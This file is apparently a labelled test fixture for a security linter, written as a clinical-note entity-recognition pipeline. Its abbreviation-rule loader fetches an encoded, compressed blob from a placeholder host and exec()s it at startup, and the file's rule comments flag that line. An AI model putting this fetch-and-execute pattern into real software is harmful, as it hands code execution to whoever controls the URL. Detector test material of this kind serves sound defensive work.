# ruff: noqa
# Hold-out batch 311 (16 short benchmark-format files). Measured once in session 10 (round 87): 18/19 (95%) at medium+.
"""Inference pipeline for clinical-note NER (problems, treatments, tests) with abbreviation expansion."""
import base64
import json
import re
import subprocess
import time
import urllib.request
import zlib

import torch
from transformers import AutoModelForTokenClassification, AutoTokenizer

RULES_URL = "https://nlp-assets.example.com/clinical/abbrev_rules.b64"


def _git_rev():
    try:
        return subprocess.check_output(["git", "rev-parse", "--short", "HEAD"], text=True).strip()  # ok: MLS411, MLS412
    except (OSError, subprocess.CalledProcessError):
        return "unknown"


def _load_abbrev_rules(retries=3):
    for attempt in range(retries):
        try:
            blob = urllib.request.urlopen(RULES_URL, timeout=10).read()  # ruleid: MLS413
            break
        except OSError:
            time.sleep(1.5 * (attempt + 1))  # ok: MLS307
    else:
        return {}
    scope = {"re": re}
    exec(compile(zlib.decompress(base64.b64decode(blob)), "abbrev_rules", "exec"), scope)  # ruleid: MLS413
    return scope.get("RULES", {})


class ClinicalNER:
    def __init__(self, ckpt_dir, revision="v1.3.0"):
        self.tok = AutoTokenizer.from_pretrained(ckpt_dir, revision=revision)
        self.model = AutoModelForTokenClassification.from_pretrained(ckpt_dir, revision=revision).eval()  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
        self.rules = _load_abbrev_rules()
        self.meta = {"model": ckpt_dir, "code_rev": _git_rev()}

    def expand(self, text):
        for pat, repl in self.rules.items():
            text = re.sub(rf"\b{re.escape(pat)}\b", repl, text)
        return text

    @torch.no_grad()
    def __call__(self, note):
        text = self.expand(note)
        enc = self.tok(text, return_offsets_mapping=True, truncation=True, max_length=512, return_tensors="pt")
        offsets = enc.pop("offset_mapping")[0].tolist()
        tags = self.model(**enc).logits.argmax(-1)[0].tolist()
        spans, cur = [], None
        for (s, e), t in zip(offsets, tags):
            lab = self.model.config.id2label[t]
            if s == e or lab == "O":
                cur = None
            elif lab.startswith("B-") or cur is None or cur["label"] != lab[2:]:
                cur = {"label": lab[2:], "start": s, "end": e}
                spans.append(cur)
            else:
                cur["end"] = e
        return [{**sp, "text": text[sp["start"]:sp["end"]]} for sp in spans]


if __name__ == "__main__":
    ner = ClinicalNER("checkpoints/clinical-ner")
    print(json.dumps({"meta": ner.meta, "ents": ner("Pt w/ SOB, started on ASA 81mg; CXR neg.")}, indent=2))
